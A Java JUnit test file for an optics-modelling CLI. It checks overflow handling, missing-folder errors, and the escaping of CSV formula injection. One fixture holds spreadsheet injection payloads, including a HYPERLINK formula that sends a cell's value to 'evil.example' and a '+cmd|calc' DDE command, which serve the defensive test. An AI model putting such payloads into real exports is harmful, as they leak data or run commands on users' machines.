package org.cpolens.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What used to be accepted silently: numbers beyond what the output holds (capped at 9.2e12),
 * spreadsheet formulas passed through CSV cells, and a {@code --catalog} folder some commands
 * ignored.
 */
class RefuseOrWarnTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;

    private Path scenario(String overrides, String cluster) throws IOException {
        Path p = dir.resolve("s.yaml");
        Files.writeString(p, """
                name: big
                cluster: { endpoints: 8192, endpointGbps: 800%s }
                fabric: { switch: tomahawk5-64x800g, tiers: 3 }
                architectures:
                  - id: pluggable-dsp-800g
                  - id: cpo-bailly-800g
                    overrides: { %s }
                """.formatted(cluster, overrides));
        return p;
    }

    /**
     * 40,960 switch-side ports at US$10^12 each: US$4.096e16 of CPO optics plus the host side's
     * 8,192 x US$800. JSON used to print 9.223372036854775E12 (Math.round's cap); it prints the
     * double exactly, and the table shows the same value.
     */
    @Test
    void largeValuesArePrintedExactlyNotCapped() throws IOException {
        Path s = scenario("costPerPortUsd: 1e12", "");
        CliRun r = CliRun.of("compare", "--scenario", s.toString(), "--format", "json");
        assertThat(r.code()).as(r.err()).isZero();
        JsonNode cpo = JSON.readTree(r.out()).get("architectures").get(1);
        double expected = 40_960 * 1e12 + 8_192 * 800.0;
        assertThat(cpo.get("capexUsd").asDouble()).isEqualTo(expected);
        assertThat(r.out()).doesNotContain("9.223372036854775E12");
        CliRun csv = CliRun.of("compare", "--scenario", s.toString(), "--format", "csv");
        assertThat(csv.out()).contains("," + java.math.BigDecimal.valueOf(expected / 1e6).toPlainString() + ",")
                .doesNotContain("9223372");
    }

    /**
     * A count beyond 2^53 comes from an input out of all proportion: refused, naming the count and
     * the input. The count is CPO's saved power (read from the same scenario at a sane 1,400 W per
     * accelerator) over 10^-12 W per accelerator.
     */
    @Test
    void aCountAboveTwoToTheFiftyThirdIsRefusedNamingTheInput() throws IOException {
        Path sane = scenario("switchPortWatts: 5.55", ", wattsPerAccelerator: 1400");
        CliRun ok = CliRun.of("compare", "--scenario", sane.toString(), "--format", "json");
        assertThat(ok.code()).as(ok.err()).isZero();
        double savedW = JSON.readTree(ok.out()).get("architectures").get(1).get("powerSavedKw").asDouble() * 1000;
        String count = String.format(java.util.Locale.ROOT, "%.4g", savedW / 1e-12);

        Path s = scenario("switchPortWatts: 5.55", ", wattsPerAccelerator: 1e-12");
        CliRun r = CliRun.of("compare", "--scenario", s.toString(), "--format", "json");
        assertThat(r.code()).as(r.err()).isEqualTo(Main.USER_ERROR);
        assertThat(r.err()).startsWith("error: field 'cpo-bailly-800g.extraAcceleratorsAtSamePower' = '" + count + "'")
                .contains("above 2^53 (9,007,199,254,740,992)").contains("check cluster.wattsPerAccelerator");
        assertThat(r.out()).isEmpty();
    }

    /** A fleet whose shipments reach 10^20 accelerators a year: counts printed as they are, never capped at Long.MAX_VALUE. */
    @Test
    void marketCountsAreNotCapped() throws IOException {
        Path cat = Files.createDirectory(dir.resolve("fleet-cat"));
        // replaces the bundled GB300 platform by id: 10^20 packages every modelled year
        Files.writeString(cat.resolve("fleet.yaml"), """
                platforms:
                  - id: gb300
                    name: a huge GB300 year
                    vendor: NVIDIA
                    scenario: gb300-rail-planes
                    shipments:
                      2026: { value: 1e20, source: "test", status: assumption }
                      2027: { value: 1e20, source: "test", status: assumption }
                      2028: { value: 1e20, source: "test", status: assumption }
                      2029: { value: 1e20, source: "test", status: assumption }
                      2030: { value: 1e20, source: "test", status: assumption }
                """);
        CliRun r = CliRun.of("market", "--catalog", cat.toString(), "--trials", "100", "--format", "json");
        assertThat(r.code()).as(r.err()).isZero();
        JsonNode years = JSON.readTree(r.out()).get("years");
        JsonNode y2027 = null;
        for (JsonNode y : years) {
            if (y.get("year").asInt() == 2027) {
                y2027 = y;
            }
        }
        assertThat(y2027).as(r.out()).isNotNull();
        assertThat(y2027.get("accelerators").asDouble()).isGreaterThanOrEqualTo(1e20);
        assertThat(r.out()).doesNotContain("9223372036854775807").doesNotContain("9.223372036854775E12");
        CliRun table = CliRun.of("market", "--catalog", cat.toString(), "--trials", "100");
        assertThat(table.code()).as(table.err()).isZero();
        assertThat(table.out()).contains("100,000,").doesNotContain("9,223,372,036,854,775,807");
    }

    /** A catalog's text that a spreadsheet would run as a formula reaches the CSV as text. */
    @Test
    void csvCellsThatWouldRunAsFormulasAreEscaped() throws IOException {
        Path cat = Files.createDirectory(dir.resolve("cat"));
        Files.writeString(cat.resolve("switches.yaml"), """
                switches:
                  - id: evil-64x800g
                    name: '=HYPERLINK("http://evil.example/?x="&A1,"click")'
                    radix: 64
                    portGbps: 800
                    source: '@SUM(1+1)'
                    status: stated
                    basePowerW: { value: 913, source: '-2+3', status: stated }
                    rackUnits: { value: 2, source: '+cmd|calc', status: stated }
                """);
        CliRun r = CliRun.of("catalog", "list", "--catalog", cat.toString(), "--format", "csv");
        assertThat(r.code()).as(r.err()).isZero();
        String row = r.out().lines().filter(l -> l.startsWith("evil-64x800g,")).findFirst().orElseThrow();
        assertThat(row).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")
                .contains(",'-2+3").doesNotContain(",=").doesNotContain(",-2+3");
        CliRun show = CliRun.of("catalog", "show", "evil-64x800g", "--catalog", cat.toString(), "--format", "csv");
        assertThat(show.out()).contains("'+cmd|calc").doesNotContain(",+cmd");
        // plain numbers, negative ones included, stay numbers
        CliRun fabric = CliRun.of("compare", "--format", "csv");
        assertThat(fabric.out()).doesNotContain("'");
    }

    /** Every command that reads the catalog refuses a folder that does not exist, as the others do; fabric ignored it. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "analyze --trials 10 --out OUT",
            "compare",
            "sweep --quiet --out OUT/rows.csv",
            "fabric --endpoints 2048 --radix 64",
            "catalog list",
            "catalog show lpo-800g",
            "market --trials 10",
            "reliability --trials 2 --days 1",
            "supply companies",
            "supply spof",
            "supply exposure",
            "supply graph",
            "serve --port 0",
    })
    void aMissingCatalogFolderIsAnErrorEverywhere(String command) throws IOException {
        Path missing = dir.resolve("no-such-catalog");
        Path out = Files.createDirectory(dir.resolve("out"));
        List<String> args = new java.util.ArrayList<>(List.of(command.replace("OUT", out.toString()).split(" ")));
        args.add("--catalog");
        args.add(missing.toString());
        CliRun r = CliRun.of(args.toArray(String[]::new));
        assertThat(r.code()).as("%s: %s", command, r.err()).isEqualTo(Main.USER_ERROR);
        assertThat(r.err()).contains("field '--catalog' = '" + missing + "': not a directory");
        try (Stream<Path> s = Files.list(out)) {
            assertThat(s.toList()).as("nothing written").isEmpty();
        }
    }
}
